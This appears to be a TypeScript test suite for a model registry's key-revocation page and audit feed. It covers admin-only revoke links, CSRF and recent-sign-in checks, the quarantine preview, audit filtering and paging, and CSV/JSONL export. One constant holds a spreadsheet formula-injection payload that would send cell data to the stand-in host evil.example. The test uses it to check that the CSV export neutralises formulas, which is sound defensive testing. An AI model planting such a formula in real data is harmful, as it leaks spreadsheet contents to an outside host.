/**
 * The keys page and the audit feed over real HTTP (issue 8 §1, reference/ui-screens.md §2.5 and
 * §2.7), on both metadata stores: the keys list with status pills and revoke links for a key
 * admin only; the revoke confirmation previews exactly the placements the revocation then
 * quarantines (checked through the API); the revoke form needs the CSRF token, `key:manage` and a
 * recent sign-in (a session aged in the database is refused); the audit feed's filters narrow it,
 * its cursor pages back through older entries, and the CSV export neutralises formula-looking
 * cells while the JSONL export carries the filter's events.
 *
 * The shipped policies are used with a second scanner key among the scan's signers (as in
 * test/api/revocation-quarantine.test.ts), so one version's scan is untouched by the revocation.
 * The tests share one registry and run in order.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { activatePolicy, attestSeed, attest, createPrincipal, editablePolicy, environmentsOf, examplePolicy, loggedEvents, promoteExpecting, pushModel, scanPredicate, setUpSeed, type PushedVersion, type Seed } from '../support/promotion-fixtures.js';
import { rawSql } from '../support/raw-sql.js';
import { BACKENDS, startTestRegistry, type TestRegistry } from '../support/registry.js';
import { addKey, api, makeKey, VULNS } from '../support/trust-fixtures.js';
import { page, signIn } from '../support/ui-session.js';

type Json = Record<string, unknown>;

const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")';

/** The `model:environment` rows of the revoke confirmation's preview table. */
function previewed(text: string): string[] {
  return [...text.matchAll(/<tr>\n<th scope="row"><a href="[^"]+">([^<]+)<\/a><\/th>\n<td>.*?<\/td>\n<td>([^<]+)<\/td>/g)].map((m) => `${m[1]}:${m[2]}`).sort();
}

/** The event types and log indexes of the audit page's rows, in page order. */
function auditRows(text: string): { type: string; index: number }[] {
  const body = text.slice(text.indexOf('<tbody>'), text.indexOf('</tbody>'));
  return body
    .split('</tr>')
    .filter((row) => row.includes('<td>'))
    .map((row) => ({ type: /<td><code>([^<]+)<\/code><\/td>/.exec(row)?.[1] ?? '', index: Number(/<td>(\d+)<\/td>\s*$/.exec(row)?.[1]) }));
}

describe.each(BACKENDS)('keys and audit pages on %s', (backend) => {
  let reg: TestRegistry;
  let seed: Seed;
  let alpha: PushedVersion;
  let bravo: PushedVersion;
  let charlie: PushedVersion;
  let compromisedSince: string;
  let viewerToken: string;
  const scanner2 = makeKey('security-scanner-2');

  beforeAll(async () => {
    reg = await startTestRegistry(backend);
    seed = await setUpSeed(reg, []);
    await addKey(reg, scanner2, [VULNS]);
    for (const name of ['staging', 'production'] as const) {
      const example = await examplePolicy(name);
      const doc = editablePolicy(example.document);
      const scan = doc.spec.attestations['scan'];
      if (scan === undefined) throw new Error('the shipped policy has no scan requirement');
      scan.signers = ['security-scanner', scanner2.name];
      await activatePolicy(reg, doc, example.fixtures, seed.principals.approver);
    }
    alpha = await pushModel(reg, 'fraud/alpha', seed.keys.training);
    bravo = await pushModel(reg, 'fraud/bravo', seed.keys.training);
    charlie = await pushModel(reg, 'fraud/charlie', seed.keys.training);
    await new Promise((resolve) => setTimeout(resolve, 5));
    compromisedSince = new Date().toISOString();
    await attestSeed(reg, alpha, seed.keys);
    await attest(reg, bravo, seed.keys.scanner, VULNS, scanPredicate('clean'));
    await attestSeed(reg, charlie, seed.keys, { signers: { scanner: scanner2 } });
    for (const version of [alpha, bravo, charlie]) await promoteExpecting(reg, version, 'staging', seed.principals.ci, 'allow');
    for (const version of [alpha, charlie]) await promoteExpecting(reg, version, 'production', seed.principals.ci, 'allow');
    viewerToken = await createPrincipal(reg, `viewer-${backend}`, 'user', [{ role: 'viewer' }]);
  }, 120_000);

  afterAll(async () => {
    await reg.stop();
  });

  it('lists every key with its id, scope and status, and revoke links only for a key admin', async () => {
    const admin = await signIn(reg, reg.token, '/keys');
    const keys = await page(reg, '/keys', { cookie: admin.cookie });
    for (const key of [seed.keys.scanner, seed.keys.training, scanner2]) {
      expect(keys.text).toContain(`sha256:${key.keyId}`);
      expect(keys.text).toContain(`href="/keys/${key.name}/revoke"`);
    }
    expect(keys.text).toContain('<code>https://in-toto.io/attestation/vulns/v0.2</code>');
    expect(keys.text.match(/aria-label="Active"/g)?.length).toBe(5);

    const viewer = await signIn(reg, viewerToken, '/keys');
    const seen = await page(reg, '/keys', { cookie: viewer.cookie });
    expect(seen.status).toBe(200);
    expect(seen.text).toContain(`sha256:${seed.keys.scanner.keyId}`);
    expect(seen.text).not.toContain('/revoke');
    expect(seen.text).not.toContain('name="reason"');
    expect((await page(reg, '/keys/security-scanner/revoke', { cookie: viewer.cookie })).status).toBe(403);
    const forced = await page(reg, '/keys/security-scanner/revoke', { cookie: viewer.cookie, form: { csrf: viewer.csrf, reason: 'not mine to revoke' } });
    expect(forced.status).toBe(403);
    expect(forced.text).toContain('key:manage');
    expect((await api(reg, 'GET', '/api/v1/keys/security-scanner')).json['status']).toBe('active');
  });

  it('refuses a revocation from a sign-in older than ui.recentAuthMinutes, and says so on the form', async () => {
    const admin = await signIn(reg, reg.token, '/keys');
    const aged = new Date(Date.now() - 60 * 60_000).toISOString();
    await rawSql(reg, 'UPDATE ui_sessions SET authenticated_at = ? WHERE id = ?', [aged, admin.sessionId]);
    const form = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie });
    expect(form.status).toBe(200);
    expect(form.text).toContain('Revoking needs a recent sign-in');
    const refused = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie, form: { csrf: admin.csrf, reason: 'stale session' } });
    expect(refused.status).toBe(403);
    expect(refused.text).toContain('needs a recent sign-in');
    expect((await api(reg, 'GET', '/api/v1/keys/security-scanner')).json['status']).toBe('active');
  });

  it('previews the placements a revocation would quarantine, and revoking through the form quarantines exactly those', async () => {
    const admin = await signIn(reg, reg.token, '/keys');
    const preview = await page(reg, `/keys/security-scanner/revoke?compromisedSince=${encodeURIComponent(compromisedSince)}`, { cookie: admin.cookie });
    expect(preview.status, preview.text).toBe(200);
    const expected = [`${alpha.model}:production`, `${alpha.model}:staging`, `${bravo.model}:staging`].sort();
    expect(previewed(preview.text)).toEqual(expected);
    expect(preview.text).toContain('3 placements would be quarantined');
    expect(preview.text).not.toContain(charlie.model);
    // Without a compromise time the stored attestations stay valid: nothing to quarantine.
    const plain = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie });
    expect(previewed(plain.text)).toEqual([]);
    expect(plain.text).toContain('No version would be quarantined');
    // The preview wrote nothing.
    expect(await loggedEvents(reg, 'version.quarantined')).toEqual([]);
    expect((await api(reg, 'GET', '/api/v1/keys/security-scanner')).json['status']).toBe('active');

    const withoutCsrf = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie, form: { reason: 'stolen', compromisedSince } });
    expect(withoutCsrf.status).toBe(403);
    const revoked = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie, form: { csrf: admin.csrf, reason: FORMULA, compromisedSince } });
    expect(revoked.status, revoked.text).toBe(303);
    expect(revoked.headers.get('location')).toBe('/keys?revoked=security-scanner');
    const list = await page(reg, '/keys?revoked=security-scanner', { cookie: admin.cookie });
    expect(list.text).toContain('is revoked');
    expect(list.text).toContain('aria-label="Revoked at');
    expect(list.text).not.toContain('href="/keys/security-scanner/revoke"');

    const key = await api(reg, 'GET', '/api/v1/keys/security-scanner');
    expect(key.json).toMatchObject({ status: 'revoked', revocation: { reason: FORMULA, compromisedSince } });
    const events = await loggedEvents(reg, 'version.quarantined');
    expect(events.map((e) => `${String(e['model'])}:${String(e['environment'])}`).sort()).toEqual(expected);
    const quarantined = async (model: string): Promise<string[]> =>
      Object.values(await environmentsOf(reg, model)).filter((e) => (e['quarantines'] as Json[]).length > 0).map((e) => String(e['environment'])).sort();
    expect(await quarantined(alpha.model)).toEqual(['production', 'staging']);
    expect(await quarantined(bravo.model)).toEqual(['staging']);
    expect(await quarantined(charlie.model)).toEqual([]);
    // A revoked key has no revoke form any more.
    const again = await page(reg, '/keys/security-scanner/revoke', { cookie: admin.cookie });
    expect(again.text).toContain('already revoked');
    expect(again.text).not.toContain('name="reason"');
  });

  it('shows the audit feed newest first, narrowed by type, actor, model and time, with cursor paging', async () => {
    // More than one page of events: a few more tokens for the viewer.
    for (let i = 0; i < 12; i++) expect((await api(reg, 'POST', '/api/v1/tokens', { principal: `viewer-${backend}` })).status).toBe(201);
    const admin = await signIn(reg, reg.token, '/keys');
    const all = await page(reg, '/audit', { cookie: admin.cookie });
    expect(all.status).toBe(200);
    const rows = auditRows(all.text);
    expect(rows.length).toBe(50);
    expect(rows.map((r) => r.index)).toEqual([...rows.map((r) => r.index)].sort((a, b) => b - a));
    const older = /<a href="(\/audit\?before=\d+)">Older events<\/a>/.exec(all.text)?.[1];
    if (older === undefined) throw new Error('no link to older events');
    const next = auditRows((await page(reg, older.replace(/&amp;/g, '&'), { cookie: admin.cookie })).text);
    expect(next.length).toBeGreaterThan(0);
    expect(Math.max(...next.map((r) => r.index))).toBeLessThan(Math.min(...rows.map((r) => r.index)));

    const byType = auditRows((await page(reg, '/audit?type=version.quarantined', { cookie: admin.cookie })).text);
    expect(byType.map((r) => r.type)).toEqual(['version.quarantined', 'version.quarantined', 'version.quarantined']);
    const byActor = auditRows((await page(reg, '/audit?actor=ci-release', { cookie: admin.cookie })).text);
    expect(new Set(byActor.map((r) => r.type))).toEqual(new Set(['promotion.decided']));
    expect(byActor.length).toBe(5);
    const byModel = auditRows((await page(reg, `/audit?model=${encodeURIComponent(bravo.model)}&type=promotion.decided`, { cookie: admin.cookie })).text);
    expect(byModel.length).toBe(1);
    const future = new Date(Date.now() + 3_600_000).toISOString();
    expect(auditRows((await page(reg, `/audit?since=${encodeURIComponent(future)}`, { cookie: admin.cookie })).text)).toEqual([]);
    const untilStart = auditRows((await page(reg, `/audit?until=${encodeURIComponent(compromisedSince)}&type=promotion.decided`, { cookie: admin.cookie })).text);
    expect(untilStart).toEqual([]);
    expect((await page(reg, '/audit?type=no.such.type', { cookie: admin.cookie })).status).toBe(400);

    const viewer = await signIn(reg, viewerToken, '/keys');
    expect((await page(reg, '/audit', { cookie: viewer.cookie })).status).toBe(403);
    expect((await page(reg, '/audit/export?format=csv', { cookie: viewer.cookie })).status).toBe(403);
  });

  it('exports the filtered feed as CSV with formula-looking cells neutralised, and as JSONL', async () => {
    const admin = await signIn(reg, reg.token, '/keys');
    const csv = await fetch(`${reg.url}/audit/export?format=csv&type=key.revoked`, { headers: { cookie: admin.cookie } });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="custody-audit-\d{8}T\d{6}\.csv"$/);
    const lines = (await csv.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('index,time,type,actor,via,model,version,environment,key,reason,leafHash,event');
    expect(lines.length).toBe(2);
    const row = lines[1] ?? '';
    // The reason cell starts with a quote mark, not with "=": a spreadsheet shows it as text.
    expect(row).toContain(`,"'${FORMULA.replace(/"/g, '""')}",`);
    expect(row.split(',').some((cell) => /^"?[=+\-@]/.test(cell))).toBe(false);

    const jsonl = await fetch(`${reg.url}/audit/export?format=jsonl&actor=ci-release`, { headers: { cookie: admin.cookie } });
    expect(jsonl.status).toBe(200);
    expect(jsonl.headers.get('content-disposition')).toMatch(/filename="custody-audit-\d{8}T\d{6}\.jsonl"/);
    const items = (await jsonl.text()).trimEnd().split('\n').map((l) => JSON.parse(l) as { index: number; event: Json });
    expect(items.length).toBe(5);
    for (const item of items) expect(item.event).toMatchObject({ type: 'promotion.decided', actor: { principal: 'ci-release' } });
    expect((await page(reg, '/audit/export?format=xlsx', { cookie: admin.cookie })).status).toBe(400);
  });
});
